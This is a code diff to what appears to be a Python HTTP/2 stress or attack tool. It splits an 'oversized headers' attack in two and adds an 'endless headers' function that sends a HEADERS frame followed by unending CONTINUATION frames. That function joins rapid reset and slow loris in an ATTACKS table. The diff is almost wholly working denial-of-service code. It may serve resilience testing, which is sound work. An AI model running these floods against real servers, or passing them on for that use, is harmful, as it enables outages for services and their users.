@@ -200,23 +200,30 @@ def slow_loris(target: Target, seconds: float) -> Counts:
 
 
 def oversized_headers(target: Target, seconds: float) -> Counts:
-    """Header blocks of 256 KiB, and, by turns, blocks that go on for as long as the connection does."""
+    """Requests with header blocks of 256 KiB."""
     counts, end = Counts(), time.monotonic() + seconds
     large = block(target.request(*((f"x-{number}", "x" * 4000) for number in range(64))))
-    piece = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000)
     while time.monotonic() < end:
         with attacked(target, counts) as connection:
             for stream in range(1, 200, 2):
                 if connection is None or time.monotonic() > end:
                     break
                 connection.send(split(large, stream))
-                counts.sent += len(large)
+                counts.sent += 1
+    return counts
+
+
+def endless_headers(target: Target, seconds: float) -> Counts:
+    """Header blocks that go on for as long as the connection does, of many small headers."""
+    counts, end = Counts(), time.monotonic() + seconds
+    piece = frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 3000)
+    while time.monotonic() < end:
         with attacked(target, counts) as connection:
             if connection is not None:
                 connection.send(frame(HEADERS, 0, 1, block(target.request())))
             while connection is not None and time.monotonic() < end:
                 connection.send(piece)
-                counts.sent += len(piece)
+                counts.sent += 1
     return counts
 
 
@@ -236,5 +243,6 @@ ATTACKS: dict[str, Callable[[Target, float], Counts]] = {
     "rapid reset": rapid_reset,
     "slow loris": slow_loris,
     "oversized headers": oversized_headers,
+    "endless headers": endless_headers,
     "connect and cancel": connect_and_cancel,
 }
